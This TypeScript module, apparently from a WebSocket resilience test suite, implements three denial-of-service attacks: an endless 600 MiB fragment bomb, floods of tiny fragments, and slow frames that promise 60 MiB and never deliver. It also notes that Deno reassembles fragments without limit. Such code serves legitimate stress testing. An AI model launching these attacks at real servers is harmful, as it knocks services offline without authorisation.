/**
 * Attacks with the frames of one message: many, tiny, or only announced.
 *
 * @module
 */
import { type Attack, endings, timer, TOKEN } from "./attack.ts";
import { AttackSocket, frame, frameHead, repeated, sleep } from "./socket.ts";

const MIB = 1024 * 1024;
const KNOWN = "Deno puts fragments together without a limit, before anybody can see them";

/** One message in fragments that never end. */
export const fragmentBomb: Attack = {
  name: "fragment-bomb",
  says: "one message of 600 MiB in fragments of 1 MiB that never end",
  unheld: KNOWN,
  async run(field) {
    const socket = await AttackSocket.upgrade(field, TOKEN);
    const isOver = timer(field);
    const more = frame(new Uint8Array(MIB).fill(0x78), 0, false);
    let goesOn = await socket.write(frame("x", 1, false));
    const total = 600 * field.scale;
    let sent = 0;
    for (; sent < total && goesOn && !isOver(); sent++) goesOn = await socket.write(more);
    await socket.listenToTheEnd(1000);
    return `${endings([socket])} after ${sent} MiB`;
  },
};

/** One message in as many fragments as there is time for. */
export const tinyFragments: Attack = {
  name: "tiny-fragments",
  says: "one message of millions of fragments, of one byte and of none in turns",
  unheld: KNOWN,
  async run(field) {
    const socket = await AttackSocket.upgrade(field, TOKEN);
    const isOver = timer(field);
    const one = frame("x", 0, false);
    const none = frame("", 0, false);
    const pair = new Uint8Array([...one, ...none]);
    const pairs = 5000;
    const more = repeated(pair, pairs);
    let goesOn = await socket.write(frame("x", 1, false));
    // As many bytes on the wire as the bomb has.
    const total = 600 * MIB * field.scale / more.length;
    let sent = 0;
    for (; sent < total && goesOn && !isOver(); sent++) goesOn = await socket.write(more);
    await socket.listenToTheEnd(1000);
    return `${endings([socket])} after ${Math.round(sent * 2 * pairs / 1000)} k fragments`;
  },
};

/** Frames whose heads promise much, and nothing follows. */
export const emptyPromises: Attack = {
  name: "empty-promises",
  says: "300 frames whose heads say that 60 MiB follow, and nothing or a byte a second follows",
  async run(field) {
    const sockets = await Promise.all(
      Array.from({ length: Math.ceil(300 * field.scale) }, async () => {
        const socket = await AttackSocket.upgrade(field, TOKEN);
        await socket.write(frameHead(60 * MIB));
        return socket;
      }),
    );
    const isOver = timer(field);
    while (!isOver()) {
      await Promise.all(sockets.map((socket, i) => i % 2 === 0 && socket.write("x")));
      await sleep(1000);
    }
    return endings(sockets);
  },
};
